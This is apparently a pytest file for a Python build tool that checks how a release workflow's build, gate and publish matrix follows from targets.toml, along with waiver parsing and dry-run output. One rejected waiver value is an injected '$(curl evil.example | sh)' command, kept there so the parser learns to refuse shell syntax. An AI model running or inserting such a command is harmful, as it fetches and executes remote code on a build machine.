"""The release matrix comes from targets.toml alone, and release.yml runs exactly the plan's commands."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml

from polykernels_build import cli, targets, workflow_matrix
from polykernels_build.errors import ConfigError

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"


def _release() -> dict:
    return yaml.safe_load((WORKFLOWS / "release.yml").read_text())


def _matrix() -> targets.Matrix:
    return targets.load(ROOT / "targets.toml")


def test_every_target_gets_a_build_and_its_gate_on_its_runner_labels() -> None:
    matrix = _matrix()
    plan = workflow_matrix.plan(matrix, waivers={}, dry_run=False)
    outputs = {k: json.loads(v) if k != "gate_predicate_type" else v for k, v in plan.outputs().items()}
    assert [b["target"] for b in outputs["build"]] == list(matrix.targets)
    gated = {t.name: list(t.runners) for t in matrix.targets.values() if t.runners}
    assert {g["target"]: g["runners"] for g in outputs["gate"]} == gated
    assert outputs["dry_run"] is False


def test_the_jobs_wire_matrix_to_build_to_gate_to_publish() -> None:
    jobs = _release()["jobs"]
    assert jobs["build"]["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.matrix.outputs.build) }}"
    assert jobs["gate"]["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.matrix.outputs.gate) }}"
    assert jobs["gate"]["runs-on"] == "${{ matrix.runners }}"  # the labels targets.toml names, nothing else
    assert set(jobs["publish"]["needs"]) >= {"build", "gate"}
    assert "publish" in jobs["pypi"]["needs"] and "publish" in jobs["pages"]["needs"]
    assert jobs["pypi"]["environment"]["name"] == "pypi"
    assert jobs["pypi"]["permissions"] == {"id-token": "write"}


def test_unpinned_targets_build_offline_and_pinned_ones_vendor(tmp_path) -> None:
    text = (ROOT / "targets.toml").read_text().replace(
        'vendor = { image = "pytorch/manylinux2_28-builder:cpu", digest = "" }',
        f'vendor = {{ image = "pytorch/manylinux2_28-builder:cpu", digest = "sha256:{"a" * 64}" }}')
    (tmp_path / "targets.toml").write_text(text)
    (tmp_path / "docker").symlink_to(ROOT / "docker")
    plan = workflow_matrix.plan(targets.load(tmp_path / "targets.toml"), waivers={}, dry_run=True)
    assert {t.target: t.profile for t in plan.targets} == {
        "cpu": "vendor", "cuda13": "offline", "rocm-gfx942": "offline", "rocm-gfx950": "offline"}


def test_a_waived_target_skips_its_gate_and_is_on_the_record() -> None:
    matrix = _matrix()
    plan = workflow_matrix.plan(matrix, waivers={"cuda13": "H100 runner offline for maintenance"}, dry_run=False)
    assert "cuda13" not in [g["target"] for g in plan.gate_matrix()]
    fate = {t.target: t.fate for t in plan.targets}
    assert "waiver: H100 runner offline" in fate["cuda13"]
    assert "NOT published" in fate["rocm-gfx950"]


@pytest.mark.parametrize("text", [
    "cpu",                                   # no reason
    "cuda99=no such target here",            # unknown target
    "cpu=short",                             # too short to say why
    'cpu=$(curl evil.example | sh) oops',    # shell syntax is not a reason
    "cpu=reason one here;cpu=reason two here",  # twice
])
def test_waiver_input_is_validated(text: str) -> None:
    with pytest.raises(ConfigError):
        workflow_matrix.parse_waivers(text, _matrix())


def test_waiver_input_parses() -> None:
    text = " rocm-gfx942=no MI300X runner yet ; rocm-gfx950=no MI355X runner yet"
    waivers = workflow_matrix.parse_waivers(text, _matrix())
    assert waivers == {"rocm-gfx942": "no MI300X runner yet", "rocm-gfx950": "no MI355X runner yet"}


def _run_lines(job: dict) -> list[str]:
    return [step["run"].strip() for step in job["steps"] if "run" in step]


def test_release_yml_runs_exactly_the_plans_commands() -> None:
    jobs = _release()["jobs"]
    assert _run_lines(jobs["matrix"]) == list(workflow_matrix.MATRIX_STEPS)
    assert _run_lines(jobs["build"]) == list(workflow_matrix.BUILD_STEPS)
    assert _run_lines(jobs["gate"]) == list(workflow_matrix.GATE_STEPS)
    assert _run_lines(jobs["publish"]) == list(workflow_matrix.PUBLISH_STEPS)


def test_dry_run_prints_the_plan(capsys, monkeypatch) -> None:
    monkeypatch.chdir(ROOT)
    assert cli.main(["release", "--dry-run", "--waivers", "rocm-gfx942=no MI300X runner yet"], env={}) == 0
    out = capsys.readouterr().out
    for name in _matrix().targets:
        assert f'-s "wheel({name})" -- --profile offline' in out
    assert "runs-on ['linux-gpu-h100']" in out and "published under waiver: no MI300X runner yet" in out
    assert "PyPI (trusted publishing, environment pypi): cuda13" in out


def test_pypi_target_comes_from_targets_toml(tmp_path) -> None:
    assert [t.name for t in _matrix().targets.values() if t.pypi] == ["cuda13"]
    (tmp_path / "targets.toml").write_text((ROOT / "targets.toml").read_text().replace('pypi = "cuda13"',
                                                                                       'pypi = "cuda99"'))
    (tmp_path / "docker").symlink_to(ROOT / "docker")
    with pytest.raises(ConfigError, match="pypi names unknown target 'cuda99'"):
        targets.load(tmp_path / "targets.toml")


def test_github_output_lines(tmp_path) -> None:
    out = tmp_path / "out"
    workflow_matrix.write_github_output(out, workflow_matrix.plan(_matrix(), waivers={}, dry_run=True).outputs())
    keys = [line.split("=", 1)[0] for line in out.read_text().splitlines()]
    assert keys == ["build", "gate", "dry_run", "gate_predicate_type"]
    assert re.search(r"^dry_run=true$", out.read_text(), re.M)


def test_ci_builds_through_the_same_wheel_session_as_the_release() -> None:
    # noxfile: one `wheel(<target>)` session per target of targets.toml; both workflows name it the same way.
    ci = yaml.safe_load((WORKFLOWS / "ci.yml").read_text())["jobs"]
    release_wheel = next(s for s in workflow_matrix.BUILD_STEPS if "wheel(" in s)
    assert release_wheel.startswith(f'{workflow_matrix.NOX} -s "wheel($TARGET)" -- ')
    assert any(line.startswith(f'{workflow_matrix.NOX} -s "wheel($TARGET)" -- ') for line in _run_lines(ci["wheel"]))
